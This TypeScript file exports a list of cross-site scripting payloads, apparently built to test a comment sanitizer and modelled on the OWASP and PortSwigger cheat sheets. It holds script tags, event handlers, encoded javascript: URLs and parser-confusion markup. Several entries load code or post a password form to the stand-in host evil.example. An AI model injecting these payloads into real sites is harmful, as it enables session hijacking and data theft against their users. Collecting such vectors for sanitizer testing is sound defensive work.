/**
 * What is tried with the markup of a comment, written anew after two published lists: each section of OWASP's XSS Filter Evasion Cheat
 * Sheet (cheatsheetseries.owasp.org) that is about markup has its own name here; others follow PortSwigger's cross-site scripting cheat sheet
 * and what is known of sanitizers that read markup otherwise than browsers do. Whatever runs calls `alert`, whatever loads asks evil.example.
 */
const owasp: readonly (readonly [section: string, markup: string])[] = [
  ['Basic XSS Test', '<SCRIPT SRC=https://evil.example/a.js></SCRIPT>'],
  [
    'XSS Locator (Polyglot)',
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1);//'>",
  ],
  [
    'Malformed A Tags',
    '<a onmouseover="alert(1)">x</a><a onmouseover=alert(1) onfocus=alert(1) autofocus href=#>x</a>',
  ],
  ['Malformed IMG Tags', '<IMG """><SCRIPT>alert(1)</SCRIPT>">'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(49))>'],
  ['Default SRC Tag to Get Past Filters', '<IMG SRC=# onmouseover="alert(1)" onerror="alert(1)">'],
  ['Default SRC Tag by Leaving it Empty', '<IMG SRC= onerror="alert(1)">'],
  ['Default SRC Tag by Leaving it out', '<IMG onmouseover="alert(1)">'],
  ['On Error Alert', '<IMG SRC=data:, onerror="alert(String.fromCharCode(49))"></img>'],
  [
    'IMG onerror and JavaScript Alert Encode',
    '<img src=data:, onerror="&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
  ],
  [
    'Decimal HTML Character References',
    '<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>x</a>',
  ],
  [
    'Decimal References Without Semicolons',
    '<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>x</a>',
  ],
  [
    'Hexadecimal References Without Semicolons',
    '<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>x</a>',
  ],
  ['Embedded Tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['Embedded Encoded Tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['Embedded Newline', '<a href="jav&#x0A;ascript:alert(1)">x</a><a href="jav\nascript:alert(1)">x</a>'],
  ['Embedded Carriage Return', '<a href="jav&#x0D;ascript:alert(1)">x</a>'],
  ['Directive with Null', '<a href="java\0script:alert(1)">x</a><a href="java&#0;script:alert(1)">x</a>'],
  [
    'Spaces and Meta Chars Before the JavaScript',
    '<a href=" &#14;  javascript:alert(1)">x</a><a href="\x01javascript:alert(1)">x</a>',
  ],
  [
    'Non-alpha-non-digit XSS',
    '<SCRIPT/XSS SRC="https://evil.example/a.js"></SCRIPT><BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)><SCRIPT/SRC="https://evil.example/a.js"></SCRIPT>',
  ],
  ['Extraneous Open Brackets', '<<SCRIPT>alert(1);//<</SCRIPT>'],
  ['No Closing Script Tags', '<SCRIPT SRC=https://evil.example/a.js?< B >'],
  ['Protocol Resolution in Script Tags', '<SCRIPT SRC=//evil.example/.j>'],
  ['Half Open Vector', '<IMG SRC="data:," onerror="alert(1)"'],
  ['Double Open Angle Brackets', '<iframe src=https://evil.example/a.html <'],
  ['Escaping JavaScript Escapes', '\\";alert(1);//</script><script>alert(1);</script>'],
  ['End Title Tag', '</TITLE><SCRIPT>alert(1);</SCRIPT>'],
  ['INPUT Image', '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);"><INPUT TYPE=IMAGE SRC=data:, onerror=alert(1)>'],
  ['BODY Image', '<BODY BACKGROUND="javascript:alert(1)"><BODY BACKGROUND="https://evil.example/a.png">'],
  ['IMG Dynsrc', '<IMG DYNSRC="javascript:alert(1)">'],
  ['IMG Lowsrc', '<IMG LOWSRC="javascript:alert(1)">'],
  ['List-style-image', '<STYLE>li {list-style-image: url("https://evil.example/a.png");}</STYLE><UL><LI>x</br>'],
  ['VBscript in an Image', '<IMG SRC=\'vbscript:msgbox("1")\'><a href="vbscript:msgbox(1)">x</a>'],
  ['Livescript', '<IMG SRC="livescript:alert(1)">'],
  ['SVG Object Tag', '<svg/onload=alert(1)>'],
  ['BODY Tag', '<BODY ONLOAD =alert(1)>'],
  ['BGSOUND', '<BGSOUND SRC="javascript:alert(1);">'],
  ['& JavaScript includes', '<BR SIZE="&{alert(1)}">'],
  ['STYLE sheet', '<LINK REL="stylesheet" HREF="javascript:alert(1);">'],
  ['Remote style sheet', '<LINK REL="stylesheet" HREF="https://evil.example/a.css">'],
  ['Remote style sheet part 2', "<STYLE>@import'https://evil.example/a.css';</STYLE>"],
  ['Remote style sheet part 3', '<META HTTP-EQUIV="Link" Content="<https://evil.example/a.css>; REL=stylesheet">'],
  ['Remote style sheet part 4', '<STYLE>BODY{-moz-binding:url("https://evil.example/a.xml#x")}</STYLE>'],
  ['STYLE Tags that Break-up JavaScript', "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>"],
  ['STYLE Attribute that Breaks-up an Expression', '<IMG STYLE="x:expr/*x*/ession(alert(1))">'],
  ['IMG STYLE with Expressions', 'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*x*//*/*/pression(alert(1))\'>'],
  ['STYLE Tag', '<STYLE TYPE="text/javascript">alert(1);</STYLE>'],
  [
    'STYLE Tag using Background-image',
    '<STYLE>.a{background-image:url("https://evil.example/a.png");}</STYLE><A CLASS=a>x</A>',
  ],
  ['STYLE Tag using Background', '<STYLE type="text/css">BODY{background:url("https://evil.example/b.png")}</STYLE>'],
  [
    'Anonymous HTML with STYLE Attribute',
    '<XSS STYLE="xss:expression(alert(1))"><x-s style="background:url(https://evil.example/a.png)">x</x-s>',
  ],
  ['Local htc File', '<XSS STYLE="behavior: url(xss.htc);">'],
  ['US-ASCII Encoding', '\u00bcscript\u00bealert(1)\u00bc/script\u00be'],
  ['META', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">'],
  [
    'META using Data',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  ],
  [
    'META with Additional URL Parameter',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=https://evil.example/">',
  ],
  ['IFRAME', '<IFRAME SRC="javascript:alert(1);"></IFRAME><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['IFRAME Event Based', '<IFRAME SRC=# onload="alert(1)"></IFRAME>'],
  ['FRAME', '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>'],
  ['TABLE', '<TABLE BACKGROUND="https://evil.example/a.png"><tr><td>x</td></tr></TABLE>'],
  ['TD', '<TABLE><TD BACKGROUND="https://evil.example/a.png" onclick=alert(1) colspan="2">x'],
  ['DIV Background-image', '<DIV STYLE="background-image: url(https://evil.example/a.png)">x</DIV>'],
  [
    'DIV Background-image with Unicoded XSS',
    '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'https://evil.example/a.png\'\\0029">x</DIV>',
  ],
  [
    'DIV Background-image Plus Extra Characters',
    '<DIV STYLE="background-image: url(&#1;https://evil.example/a.png)">x</DIV>',
  ],
  ['DIV Expression', '<DIV STYLE="width: expression(alert(1));">x</DIV>'],
  ['Downlevel-Hidden Block', '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->'],
  ['BASE Tag', '<BASE HREF="https://evil.example/">'],
  ['OBJECT Tag', '<OBJECT TYPE="text/html" DATA="https://evil.example/a.html"></OBJECT>'],
  ['EMBED a Flash Movie', '<EMBED SRC="https://evil.example/a.swf" AllowScriptAccess="always"></EMBED>'],
  [
    'EMBED SVG',
    '<EMBED SRC="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>" type="image/svg+xml">',
  ],
  [
    'XML Data Island',
    '<XML ID="a"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML><SPAN DATASRC="#a" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  ],
  ['Locally hosted XML', '<XML SRC="a.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>'],
  [
    'HTML+TIME in XML',
    '<?xml:namespace prefix="t" ns="urn:x"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="x<SCRIPT DEFER>alert(1)</SCRIPT>">',
  ],
  ['Renamed script', '<SCRIPT SRC="https://evil.example/a.jpg"></SCRIPT>'],
  [
    'SSI',
    '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=https://evil.example/a.js></SCRIPT>\'"-->',
  ],
  ['PHP', "<? echo('<SCR)';echo('IPT>alert(1)</SCRIPT>'); ?>"],
  ['IMG Embedded Commands', '<IMG SRC="https://evil.example/command?delete=all">'],
  ['Cookie Manipulation', '<META HTTP-EQUIV="Set-Cookie" Content="user=<SCRIPT>alert(1)</SCRIPT>">'],
  [
    'UTF-7 Encoding',
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
  ],
  [
    'HTML Quote Encapsulation',
    '<SCRIPT a=">" SRC="https://evil.example/a.js"></SCRIPT><SCRIPT =">" SRC="https://evil.example/a.js"></SCRIPT>',
  ],
  [
    'HTML Quote Encapsulation, other quotes',
    '<SCRIPT a=">" \'\' SRC="https://evil.example/a.js"></SCRIPT><SCRIPT "a=\'>\'" SRC="https://evil.example/a.js"></SCRIPT><SCRIPT a=`>` SRC="https://evil.example/a.js"></SCRIPT>',
  ],
  [
    'HTML Quote Encapsulation, parted',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/a.js"></SCRIPT>',
  ],
  ['Base64 Encoding', '<img src=data:, onerror="eval(atob(\'YWxlcnQoMSk=\'))">'],
  ['Mixed Encoding', '<A HREF="j\na\tv&#10;ascript:&#97;lert(1)">x</A>'],
  [
    'Protocol Resolution Bypass',
    '<A HREF="//evil.example/">x</A><A HREF="\\\\evil.example/">x</A><IMG SRC="//evil.example/a.png">',
  ],
];

const others: readonly (readonly [kind: string, markup: string])[] = [
  ['script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['null in a tag', '<script\0>alert(1)</script>'],
  ['script in an image of the page', '<svg><script>alert(1)</script></svg><svg><script href="data:,alert(1)" /></svg>'],
  ['link in an image of the page', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['animated link', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>'],
  [
    'use of another image',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22/>#x" /></svg>',
  ],
  ['formula as a link', '<math href="javascript:alert(1)">x</math>'],
  [
    'markup that changes when it is read again',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=data:, onerror=alert(1)>">',
  ],
  [
    'the same by a form',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src=data:,>">',
  ],
  ['the same by a namespace', '<svg></p><style><a id="</style><img src=data:, onerror=alert(1)>">'],
  ['text read otherwise without a script', '<noscript><p title="</noscript><img src=data:, onerror=alert(1)>">'],
  [
    'text of an old element',
    '<xmp><img src=data:, onerror=alert(1)></xmp><listing>&lt;img src=data:, onerror=alert(1)&gt;</listing>',
  ],
  [
    'text of a field',
    '<textarea><img src=data:, onerror=alert(1)></textarea><textarea></textarea><img src=data:, onerror=alert(1)>',
  ],
  ['text to the end', '<plaintext><script>alert(1)</script>'],
  ['selection', '<select><style></select><img src=data:, onerror=alert(1)></style>'],
  [
    'template',
    '<template><script>alert(1)</script></template><template shadowrootmode=open><img src=data:, onerror=alert(1)></template>',
  ],
  [
    'comment that ends early',
    '<!--><img src=data:, onerror=alert(1)>--><!-- --!><img src=data:, onerror=alert(1)> -->',
  ],
  ['data section', '<![CDATA[<img src=data:, onerror=alert(1)>]]>'],
  ['instruction', '<?xml-stylesheet href="https://evil.example/a.xsl"?><?x ><img src=data:, onerror=alert(1)>'],
  [
    'form',
    '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>',
  ],
  [
    'events without a click',
    '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee><p style="animation:x" onanimationstart=alert(1)>x</p>',
  ],
  [
    'events of media',
    '<video autoplay onloadstart=alert(1)><source src=data:, onerror=alert(1)></video><audio src=data:, onerror=alert(1)></audio>',
  ],
  ['events of a popover', '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>'],
  [
    'events of an own element',
    '<x-s tabindex=1 autofocus onfocus=alert(1) contenteditable onscrollend=alert(1)>x</x-s>',
  ],
  ['event without a space', '<p/onmouseover=alert(1)>x</p><p id="x"onclick=alert(1)>x</p>'],
  [
    'pictures',
    '<img srcset="https://evil.example/a.png 2x"><picture><source srcset="https://evil.example/a.png"><img></picture>',
  ],
  [
    'early loading',
    '<link rel=prefetch href="https://evil.example/"><link rel=preload as=image href="https://evil.example/a.png"><link rel=dns-prefetch href="//evil.example">',
  ],
  [
    'ping of a link',
    '<a href="https://good.example/" ping="https://evil.example/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  ],
  [
    'data as a link',
    '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="blob:x">x</a><a href="file:///etc/passwd">x</a>',
  ],
  [
    'names of the page',
    '<a id="defaultView" name="x" class="x">x</a><form name="body"><input name="firstChild"></form><div id="__proto__">x</div>',
  ],
  ['escaped markup', '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=data:, onerror=alert(1)&gt;'],
  [
    'markup in an attribute',
    '<p title="<img src=data:, onerror=alert(1)>">x</p><p \'><img src=data:, onerror=alert(1)>\'>x</p>',
  ],
  ['an unclosed link before code', '<a href="https://good.example/"><script>alert(1)</script>'],
  ['unclosed attribute that takes what follows', '<a href="https://evil.example/?'],
  [
    'portal, fenced frame, applet',
    '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe><applet code="https://evil.example/a.class"></applet>',
  ],
];

export const markupAttacks: readonly (readonly [name: string, markup: string])[] = [...owasp, ...others];
